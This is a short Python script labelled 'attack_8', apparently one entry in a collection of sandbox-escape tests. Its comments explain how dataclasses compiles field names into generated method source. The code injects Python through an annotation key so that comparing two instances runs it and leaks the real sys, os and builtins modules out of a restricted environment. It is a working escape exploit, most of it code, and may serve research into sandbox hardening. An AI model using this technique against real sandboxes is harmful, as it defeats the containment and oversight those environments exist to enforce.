# attack_8: dataclasses builds its methods as TEXT and exec()s it. Field names come from the
# class's __annotations__ unchecked; type() with 3 arguments takes "__annotations__" and
# "__module__" as plain dict keys (strings: no rule reads them). A field name carrying code is
# compiled into __eq__; "__module__" naming no loaded module makes dataclasses exec it with
# globals {} -> the builtins of dataclasses' own frame: the REAL ones. Lab: any.
import dataclasses

BOX = []
NAME = "a if self.grab(__import__('sys'), __builtins__, __import__('os')) else 0"

X = dataclasses.dataclass(init=False, repr=False, eq=True)(
    type(
        "X",
        (),
        {
            "__annotations__": {NAME: int},
            "__module__": "no such module",
            "grab": lambda self, *things: BOX.extend(things),
        },
    )
)
X() == X()  # runs the injected text
LEAK_sys, LEAK_builtins, LEAK_os = BOX[:3]
